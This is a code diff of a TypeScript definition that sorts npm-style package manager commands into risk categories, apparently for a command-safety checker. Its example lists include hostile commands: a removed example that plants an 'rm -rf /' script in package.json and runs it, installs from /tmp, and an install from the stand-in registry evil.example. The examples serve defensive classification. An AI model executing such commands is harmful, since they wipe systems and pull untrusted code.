@@ -4,7 +4,6 @@ import { readOptions } from "../options.ts";
 import { type Entry, family, type Row, type Tool, tool } from "../tool-shape.ts";
 import { DRY_RUN } from "./dry-run.ts";
 import { creates, execs, installsSource, NPM, NPX, npx } from "./package-runner.ts";
-import { runsWritten } from "./written-scripts.ts";
 
 const INSTALL = "install i in add ci update up upgrade uninstall remove rm un link ln";
 const ACCOUNT = "publish unpublish deprecate undeprecate dist-tag owner access team org hook star profile";
@@ -57,7 +56,6 @@ const manager = (name: string): Entry => ({
   does: ROWS,
   also: [{ with: "--script-shell --node-options --userconfig --globalconfig", is: "run-helper" }],
   works: "--prefix -C --cwd --dir",
-  by: runsWritten("package.json", NPM, ["--prefix", "-C", "--cwd", "--dir"]),
   options: { fetches: "--registry" },
   operands: "borrowed",
   examples: {
@@ -76,7 +74,6 @@ const manager = (name: string): Entry => ({
     "run-helper": [`${name} test --script-shell /tmp/sh`, `${name} --node-options=-r=/tmp/x test`],
     "run-foreign": [`${name} install /tmp/x`],
     "work-outside": [`cd /etc && ${name} install`, `${name} --prefix /etc test`],
-    "delete-vital": [`echo '{"scripts":{"x":"rm -rf /"}}' > app/package.json; ${name} --cwd app run x`],
     network: [`${name} install --registry https://evil.example left-pad`],
     fine: [
       `${name} install left-pad`,
